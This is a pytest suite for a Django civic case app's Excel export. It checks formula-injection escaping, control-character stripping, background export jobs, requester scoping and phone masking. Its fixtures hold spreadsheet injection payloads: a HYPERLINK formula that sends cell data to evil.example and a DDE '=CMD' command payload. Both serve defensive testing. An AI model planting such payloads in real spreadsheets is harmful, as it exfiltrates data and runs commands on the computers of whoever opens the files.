"""The case Excel export through its download URL: safe cells (no live formulas, no illegal characters)."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from civicgrid.cases.exports import HEADERS

pytestmark = pytest.mark.django_db


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


def _rows(body: bytes):
    ws = load_workbook(io.BytesIO(body)).worksheets[0]
    return ws, [list(r) for r in ws.iter_rows(values_only=True)]


def test_resident_text_is_exported_as_text_never_as_a_formula(client, world):
    """A resident types a formula into 随手拍; the dispatcher's export must show it as text."""
    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
    world.to_state("accepted", description=evil, reporter_name="@SUM(1+1)", address="-2+3")
    world.to_state("accepted", description="+86 13800138000 来电", reporter_name="\t=1+1")
    client.force_login(world.dispatcher)
    r = client.get("/cases/export.xlsx")
    assert r.status_code == 200
    body = _body(r)
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    ws, rows = _rows(body)
    desc, name, addr = HEADERS.index("问题描述"), HEADERS.index("反映人"), HEADERS.index("地址")
    texts = {(row[desc], row[name], row[addr]) for row in rows[1:]}
    assert (evil, "@SUM(1+1)", "-2+3") in texts
    for row in ws.iter_rows(min_row=2):
        cell = row[desc]
        assert cell.data_type == "s"
        if str(cell.value).startswith(("=", "+")):
            assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    # real numbers stay numbers
    lng = HEADERS.index("经度")
    assert all(isinstance(row[lng], float) for row in rows[1:] if row[lng] is not None)


def test_a_control_character_does_not_break_the_export(client, world):
    # (a NUL cannot be stored in PostgreSQL at all; every other control character can)
    world.to_state("accepted", description="路灯不亮\x01\x08\x0b\x1f，请尽快处理", reporter_name="王\x02五")
    for user in (world.dispatcher, world.leader, world.grid_worker):
        client.force_login(user)
        r = client.get("/cases/export.xlsx")
        assert r.status_code == 200
        _, rows = _rows(_body(r))
        assert rows[1][HEADERS.index("问题描述")] == "路灯不亮，请尽快处理"
        assert rows[1][HEADERS.index("反映人")] == "王五"


# --- large exports in the background ---------------------------------------------------------------


@pytest.fixture
def small_sync_limit(settings, tmp_path):
    """Exports of more than 2 rows go to the background; the runner runs in the test's thread."""
    settings.CIVICGRID = {**settings.CIVICGRID, "EXPORT_SYNC_MAX_ROWS": 2}
    settings.BACKGROUND_RUN_INLINE = True
    settings.DATA_DIR = tmp_path / "data"


def test_a_large_export_runs_in_the_background_with_the_filters_and_only_its_requester_downloads(
    client, world, small_sync_limit, django_capture_on_commit_callbacks
):
    wanted = [world.to_state("accepted", description=f"=CMD|' /C calc'!A{i}") for i in range(3)]
    world.to_state("reported")
    client.force_login(world.dispatcher)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        r = client.get("/cases/export.xlsx", {"status": "accepted"})
    assert r.status_code == 302 and r["Location"].startswith("/exports/")
    job_url = r["Location"]
    # queued: the page polls its progress with htmx
    page = client.get(job_url).content.decode()
    assert 'hx-trigger="every 1s"' in page and 'data-status="queued"' in page and "正在后台生成" in page
    for callback in callbacks:  # the commit starts the runner
        callback()
    partial = client.get(job_url + "progress/").content.decode()
    assert 'data-status="done"' in partial and "hx-get" not in partial and "100%" in partial
    assert 'data-testid="export-download"' in partial and "（3 行）" in partial
    download = client.get(job_url + "download/")
    assert download.status_code == 200 and ".xlsx" in download["Content-Disposition"]
    body = _body(download)
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    _, rows = _rows(body)
    assert sorted(row[0] for row in rows[1:]) == sorted(c.number for c in wanted)  # the filter was kept

    # nobody else sees the job or its file
    client.force_login(world.dispatcher2)
    assert client.get(job_url).status_code == 404
    assert client.get(job_url + "download/").status_code == 404
    client.logout()
    assert client.get(job_url + "download/").status_code == 302  # to the login page


def test_a_background_export_keeps_the_requesters_scope(
    client, world, small_sync_limit, django_capture_on_commit_callbacks
):
    mine = [world.to_state("accepted", reporter_phone="13812345678") for _ in range(3)]
    world.to_state("accepted", grid=world.other_grid)
    client.force_login(world.grid_worker)
    with django_capture_on_commit_callbacks(execute=True):
        r = client.get("/cases/export.xlsx")
    assert r.status_code == 302
    _, rows = _rows(_body(client.get(r["Location"] + "download/")))
    assert sorted(row[0] for row in rows[1:]) == sorted(c.number for c in mine)
    assert {row[HEADERS.index("反映人电话")] for row in rows[1:]} == {"138****5678"}


def test_a_small_export_stays_a_direct_download(client, world, small_sync_limit):
    world.to_state("accepted")
    client.force_login(world.dispatcher)
    r = client.get("/cases/export.xlsx")
    assert r.status_code == 200 and r["Content-Type"].startswith("application/vnd.openxmlformats")


def test_old_export_files_are_removed_when_the_next_export_runs(
    client, world, small_sync_limit, django_capture_on_commit_callbacks
):
    from datetime import timedelta

    from civicgrid.core import clock
    from civicgrid.core.models import ExportJob

    for _ in range(3):
        world.to_state("accepted")
    client.force_login(world.dispatcher)
    with django_capture_on_commit_callbacks(execute=True):
        first = client.get("/cases/export.xlsx")["Location"]
    old = ExportJob.objects.get()
    ExportJob.objects.filter(pk=old.pk).update(finished_at=clock.now() - timedelta(days=8))
    with django_capture_on_commit_callbacks(execute=True):
        client.get("/cases/export.xlsx")
    assert client.get(first + "download/").status_code == 404
    assert "文件已超过保留期" in client.get(first).content.decode()
    assert ExportJob.objects.exclude(file_path="").count() == 1
